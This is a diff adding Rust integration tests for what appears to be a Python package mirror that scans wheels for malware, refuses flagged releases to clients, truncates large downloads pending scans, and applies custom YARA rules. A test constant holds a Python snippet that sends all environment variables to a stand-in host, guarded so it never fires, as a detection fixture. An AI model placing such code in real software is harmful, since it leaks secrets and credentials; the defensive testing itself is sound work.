@@ -1,0 +1,75 @@
+//! Archives are scanned before any client has them whole, and what was found stops them in the client's own words.
+
+use std::time::Duration;
+
+use fanlight_testkit::{Clients, Release, State, Upstream, get, wait_for};
+use fanlight_tests::{listed, record_of, records_of};
+
+/// Reads as theft and does nothing: no variable of that name is ever set, and nobody imports it here.
+const THEFT: &str = "import os, urllib.request\nif os.environ.get('NEVER_SET_ANYWHERE'):\n    urllib.request.urlopen('http://c.example.invalid', data=str(os.environ).encode())\n";
+const FOUND: &str = "collects private data and sends it away";
+
+#[test]
+fn what_the_scan_finds_is_told_to_real_clients_and_the_rest_installs() {
+    let upstream = Upstream::with([
+        Release::new("harmful", "1.0").with_code(THEFT),
+        Release::new("honest", "1.0").with_code("import os\nHOME = os.environ.get('HOME')\n"),
+    ]);
+    let state = State::before(&upstream, "");
+    let node = state.start();
+    for client in Clients::get().all() {
+        let room = client.room();
+        room.install(&node.index(), &["honest"]).ok();
+        room.install(&node.index(), &["harmful==1.0"]).fails().says("the scan of harmful-1.0-py3-none-any.whl found");
+        assert_eq!(room.installed("harmful"), None, "{}", client.name);
+    }
+    let file = "harmful-1.0-py3-none-any.whl";
+    let refused = get(&node.file("harmful", file)).says(FOUND);
+    assert!([403, 451].contains(&refused.status), "{refused:?}");
+    let record = record_of(&state, &refused);
+    assert_eq!((&record["decision"]["outcome"], &record["facts"]["scan"]), (&"hold".into(), &"high".into()));
+    let entry = listed(&node, "harmful", file);
+    assert!(entry["yanked"].as_str().is_some_and(|why| why.contains(FOUND)), "index and file agree: {entry}");
+    state.cli(&["why", "harmful"]).says(FOUND);
+    assert!(records_of(&state, "packages:delivery").iter().any(|record| record["facts"]["bytes"] == 0));
+    // What was found outlives the node.
+    drop(node);
+    let node = state.start();
+    get(&node.file("harmful", file)).says(FOUND).is(refused.status);
+}
+
+#[test]
+fn a_large_file_is_cut_at_its_end_and_the_next_try_is_told_why() {
+    let upstream = Upstream::with([
+        Release::new("large", "1.0").padded(33 << 20).with_code(THEFT),
+        Release::new("vast", "1.0").padded(33 << 20),
+    ]);
+    let state = State::before(&upstream, "");
+    let node = state.start();
+    let file = "large-1.0-py3-none-any.whl";
+    let whole = upstream.bytes("large", file).len();
+    let first = get(&node.file("large", file)).is(200);
+    assert!(!first.complete && first.body.len() <= whole - 64 * 1024, "{} of {whole} bytes", first.body.len());
+    assert!(first.body.len() > 30 << 20, "it flowed meanwhile: {} bytes", first.body.len());
+    get(&node.file("large", file)).says(FOUND);
+    let vast = get(&node.file("vast", "vast-1.0-py3-none-any.whl")).is(200);
+    assert!(vast.complete);
+}
+
+#[test]
+fn a_companys_rules_are_taken_up_and_judge_what_is_cached() {
+    let upstream = Upstream::with([Release::new("ours", "1.0").with_code("acme_internal = 1\n")]);
+    let state = State::before(&upstream, "");
+    let node = state.start();
+    let file = "ours-1.0-py3-none-any.whl";
+    get(&node.file("ours", file)).is(200);
+    let rules = state.path().join("scan");
+    std::fs::create_dir(&rules).unwrap();
+    let rule = "rule own { meta: severity = \"high\" confidence = \"high\" title = \"names what is ours\" strings: $a = \"acme_internal\" condition: $a }";
+    std::fs::write(rules.join("own.yar"), rule).unwrap();
+    let refused = wait_for("the company's rule", Duration::from_secs(20), || {
+        let answer = get(&node.file("ours", file));
+        (answer.status != 200).then_some(answer)
+    });
+    refused.says("names what is ours");
+}
